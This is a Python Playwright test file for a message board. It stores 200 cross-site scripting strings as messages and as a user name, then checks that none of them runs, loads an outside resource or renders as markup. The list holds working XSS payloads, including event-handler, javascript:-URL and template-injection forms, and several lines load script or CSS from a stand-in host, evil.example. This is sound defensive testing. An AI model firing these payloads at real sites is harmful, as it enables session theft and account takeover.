"""Two hundred scripts that people could leave behind, on the board, in a real browser: none of them runs."""

from __future__ import annotations

from collections.abc import AsyncIterator

import pytest
from playwright.async_api import expect

from antiphon.testing.app import TestApp
from olympus.messages.actions import create_message
from tests.pages.people import PATIENCE, Browsers

CALL = "window.ran=1"
MARKUP = "script, img, svg, math, iframe, object, embed, form, input, a, style, link, base, meta, video, audio"

# What opens a script in one place or another of a page: the shapes that lists of such texts are made of.
SHAPES = [
    "<script>{call}</script>",
    "<ScRiPt>{call}</sCrIpT>",
    "<script src=data:text/javascript,{call}></script>",
    "<script/src='//evil.example/x.js'></script>",
    "<<script>{call}//<</script>",
    "</script><script>{call}</script>",
    "</textarea><script>{call}</script>",
    "</title><script>{call}</script>",
    "</style><script>{call}</script>",
    "--><script>{call}</script>",
    "]]><script>{call}</script>",
    '"><script>{call}</script>',
    "'><script>{call}</script>",
    "`><script>{call}</script>",
    "<img src=x onerror={call}>",
    '<img src=x onerror="{call}">',
    "<img/src=x/onerror={call}>",
    "<img src onerror={call}//",
    '"><img src=x onerror={call}>',
    "<svg onload={call}>",
    "<svg/onload={call}//",
    "<svg><script>{call}</script></svg>",
    "<svg><animate onbegin={call} attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:{call}><text>x</text></a></svg>",
    "<body onload={call}>",
    "<iframe src=javascript:{call}></iframe>",
    '<iframe srcdoc="<script>parent.{call}</script>"></iframe>',
    "<object data=javascript:{call}></object>",
    "<embed src=javascript:{call}>",
    "<a href=javascript:{call}>click</a>",
    '<a href=" javascript:{call}">click</a>',
    "<a href=java\tscript:{call}>click</a>",
    "<form action=javascript:{call}><input type=submit autofocus onfocus={call}></form>",
    "<input autofocus onfocus={call}>",
    "<details open ontoggle={call}>",
    "<video><source onerror={call}></video>",
    "<audio src=x onerror={call}>",
    "<marquee onstart={call}>",
    "<math><mtext></mtext><style><img src=x onerror={call}></style></math>",
    '<noscript><p title="</noscript><img src=x onerror={call}>"></noscript>',
    "<template><script>{call}</script></template>",
    "<base href=//evil.example/><script src=x.js></script>",
    '<meta http-equiv=refresh content="0;url=javascript:{call}">',
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "{{{{constructor.constructor('{call}')()}}}}",
    "${{{call}}}",
    "javascript:{call}",
    "&lt;script&gt;{call}&lt;/script&gt;",
    "\\u003cscript\\u003e{call}\\u003c/script\\u003e",
]
WAYS = ["{text}", "hello {text} and goodbye", "{text}\n{text}", "\u202e{text}."]
SCRIPTS = [way.replace("{text}", shape.format(call=CALL)) for way in WAYS for shape in SHAPES]


@pytest.fixture
async def browsers(chromium: str, olympus_served: TestApp) -> AsyncIterator[Browsers]:
    """A browser that is gone before Olympus is."""
    async with Browsers.start(chromium) as started:
        yield started


async def test_of_two_hundred_stored_scripts_none_runs(browsers: Browsers, olympus_served: TestApp) -> None:
    """As messages and as names they are shown letter by letter; nothing is run, loaded or opened."""
    assert len(set(SCRIPTS)) == 200
    for text in SCRIPTS:
        await olympus_served.call(create_message, text)
    url = f"http://127.0.0.1:{olympus_served.port}/board"
    mallory = await browsers.person("Mal <img src=x onerror=window.ran=1>", url)

    await mallory.sign_up()
    shown = mallory.page.locator("#messages .body")
    earlier = mallory.page.get_by_role("button", name="Show earlier messages")
    for count in range(50, len(SCRIPTS), 50):
        await expect(shown).to_have_count(count, timeout=PATIENCE)
        await earlier.click()
    await expect(shown).to_have_count(len(SCRIPTS), timeout=PATIENCE)

    assert await shown.all_text_contents() == SCRIPTS
    assert await mallory.page.evaluate("window.ran") is None
    assert await mallory.page.locator(f"#messages :is({MARKUP}), #here :is({MARKUP})").count() == 0
    assert {address.split("/", 3)[2] for address in mallory.asked} == {f"127.0.0.1:{olympus_served.port}"}
    assert mallory.errors == []
